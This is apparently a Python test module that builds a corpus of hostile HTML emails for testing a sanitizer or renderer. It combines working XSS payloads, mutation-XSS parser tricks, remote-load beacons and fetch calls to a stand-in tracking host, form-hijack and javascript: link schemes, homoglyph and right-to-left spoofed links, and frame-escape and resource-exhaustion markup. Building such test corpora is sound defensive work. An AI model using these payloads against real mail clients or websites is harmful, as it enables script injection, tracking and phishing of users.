"""Hostile letters: markup that tries to run, to load, to send, to escape its frame, or to lie about where a link leads.

Made by combining tricks with places, so that the corpus can be made anew and grows with one line. `python -m hostile.letters`
(in tests/) writes it into a folder to look at.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from itertools import product
from pathlib import Path

MARK = "window.top.__ran=1;document.title='ran';fetch('https://track.invalid/ran')"
HOST = "track.invalid"
"""Where everything in the corpus leads; nothing of it may be asked for."""

SCRIPTS = (
    f"<script>{MARK}</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    f"<script type=module>import 'https://{HOST}/m.js'</script>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg/onload={MARK}>",
    f"<math><mtext><script>{MARK}</script></mtext></math>",
    f'<noscript><p title="</noscript><script>{MARK}">',
    f"<template><script>{MARK}</script></template>",
    f'<iframe srcdoc="<script>{MARK}</script>"></iframe>',
    f'<object data="data:text/html,<script>{MARK}</script>"></object>',
    f'<embed src="data:text/html,<script>{MARK}</script>">',
    f"<!--><script>{MARK}</script>-->",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<style><!--</style><script>{MARK}</script>-->",
    f"<xmp><script>{MARK}</script></xmp>",
    f"<title><script>{MARK}</script></title>",
    f"<textarea><script>{MARK}</script></textarea>",
    f'<math><annotation-xml encoding="text/html"><script>{MARK}</script></annotation-xml></math>',
    f'<svg><animate onbegin="{MARK}" attributeName=x dur=1s>',
    f'<svg><set onend="{MARK}" attributeName=x dur=.1s>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
)
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
    "ontoggle",
    "onwheel",
    "ONERROR",
    "on\u0000error",
    "onerror\t",
    "onformdata",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
)
CARRIERS = (
    '<img src=x {0}="{1}">',
    '<body {0}="{1}">',
    '<details open {0}="{1}">x</details>',
    '<a href=# {0}="{1}" autofocus>x</a>',
    '<p style="animation-name:x" {0}="{1}" tabindex=0>x</p>',
    '<video><source {0}="{1}"></video>',
    '<input {0}="{1}" autofocus>',
)
LOADS = (
    f'<img src="https://{HOST}/p.gif">',
    f'<img srcset="https://{HOST}/p.gif 1x">',
    f'<img src="//{HOST}/p.gif">',
    f'<img lowsrc="https://{HOST}/p" dynsrc="https://{HOST}/p">',
    f'<picture><source srcset="https://{HOST}/p"><img></picture>',
    f'<video src="https://{HOST}/v" poster="https://{HOST}/p" autoplay></video>',
    f'<audio src="https://{HOST}/a" autoplay></audio>',
    f'<link rel=stylesheet href="https://{HOST}/s.css">',
    f'<link rel=prefetch href="https://{HOST}/s">',
    f'<link rel=dns-prefetch href="//{HOST}">',
    f'<link rel=preconnect href="//{HOST}">',
    f"<style>@import url(https://{HOST}/s.css)</style>",
    f"<style>body{{background:url(https://{HOST}/b)}}</style>",
    f'<p style="background:url(https://{HOST}/b)">x</p>',
    f'<p style="background:\\75rl(https://{HOST}/b)">x</p>',
    f"<p style=\"list-style:url('https://{HOST}/l')\">x</p>",
    f"<style>@font-face{{font-family:x;src:url(https://{HOST}/f)}}p{{font-family:x}}</style><p>x</p>",
    f'<table background="https://{HOST}/b"><tr><td background="https://{HOST}/b">x</td></tr></table>',
    f'<body background="https://{HOST}/b">',
    f'<iframe src="https://{HOST}/i"></iframe>',
    f'<frame src="https://{HOST}/f">',
    f'<object data="https://{HOST}/o"></object>',
    f'<embed src="https://{HOST}/e">',
    f'<applet code=x codebase="https://{HOST}/">',
    f'<svg><image href="https://{HOST}/i"/></svg>',
    f'<svg><use href="https://{HOST}/u#x"/></svg>',
    f'<svg><feImage xlink:href="https://{HOST}/i"/></svg>',
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/">',
    f'<base href="https://{HOST}/"><img src=p.gif>',
    f'<input type=image src="https://{HOST}/i">',
    f'<track src="https://{HOST}/t">',
    f'<math href="https://{HOST}/m">x</math>',
    f'<portal src="https://{HOST}/"></portal>',
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://{HOST}/i'/></svg>\">",
    f'<img alt=x src="\x01https://{HOST}/p.gif">',
    f'<img src="ht\ttps://{HOST}/p.gif">',
    f'<img src="HTTPS:\\\\{HOST}\\p.gif">',
)
FORMS = (
    f'<form action="https://{HOST}/f" id=f><input name=x value=y></form><button form=f>Sign in</button>',
    f'<form action="https://{HOST}/f"><input type=password><input type=submit formaction="https://{HOST}/g"></form>',
    f'<isindex action="https://{HOST}/f">',
    f'<button formaction="javascript:{MARK}">x</button>',
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "javascript&colon;",
    "\x01javascript:",
    "data:text/html,<script>",
    "vbscript:",
    "view-source:javascript:",
    "blob:https://x/",
    "file:///etc/passwd#",
    "livescript:",
    "javascript://%0a",
    "feed:javascript:",
)
LINKS = (
    '<a href="{0}{1}">click</a>',
    '<area href="{0}{1}">',
    '<a xlink:href="{0}{1}">click</a>',
    '<svg><a href="{0}{1}"><text>x</text></a></svg>',
)
LIES = (
    '<a href="https://evil.invalid/">https://bank.example/</a>',
    '<a href="https://bank.example@evil.invalid/">bank.example</a>',
    '<a href="https://b\u0430nk.example/">bank.example</a>',
    '<a href="https://bank.example.evil.invalid/">bank.example</a>',
    '<a href="//evil.invalid/">bank.example</a>',
    '<a href="https://evil.invalid/?https://bank.example">bank.example</a>',
    "<a href='https://evil.invalid/\"><img src=x onerror=alert(1)>'>bank.example</a>",
    '<a href="https://evil.invalid/">\u202eelpmaxe.knab</a>',
    '<a href="https://evil.invalid/"><b>bank</b>.example</a><a href="https://evil.invalid/2">two</a>',
)
ESCAPES = (
    '<div style="position:fixed;inset:0;z-index:99999;background:red">Sign in again</div>',
    "</body></html><script>top.__ran=1</script>",
    "<a href=# target=_top>x</a>",
    f'<a href="https://{HOST}/" target=_top>x</a>',
    f'<a href="https://{HOST}/" ping="https://{HOST}/ping">x</a>',
    "<p contenteditable autofocus>x</p>",
    "<dialog open>x</dialog>",
    "<marquee onstart=top.__ran=1>x</marquee>",
    "<p id=thread name=look>clobber</p><form name=body></form>",
    "<a id=x href=# accesskey=e>x</a>",
    "<" * 3_000,
    "<div>" * 3_000,
    "<table>" * 500,
    "&#0;&#xD800;&#x110000;\u0000",
    "<p dir=rtl>" + "\u202e" * 500,
    "<![if mso]><script>top.__ran=1</script><![endif]>",
)


def corpus() -> Iterator[tuple[str, str]]:
    """Each letter with a name. Always the same ones, in the same order."""
    groups = {
        "script": SCRIPTS,
        "handler": [carrier.format(handler, MARK) for handler, carrier in product(HANDLERS, CARRIERS)],
        "load": LOADS,
        "form": FORMS,
        "scheme": [link.format(scheme, MARK) for scheme, link in product(SCHEMES, LINKS)],
        "lie": LIES,
        "escape": ESCAPES,
        "wrapped": [f"<table><tr><td><div><b>Dear Ada,</b>{each}</td></tr></table>" for each in (*SCRIPTS, *LOADS)],
    }
    for group, letters in groups.items():
        for number, letter in enumerate(letters):
            yield f"{group}-{number:03d}", letter


def main(folder: Path) -> None:
    """Writes the corpus, one file each."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, letter in corpus():
        (folder / f"{name}.html").write_text(letter, encoding="utf-8", errors="surrogatepass")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
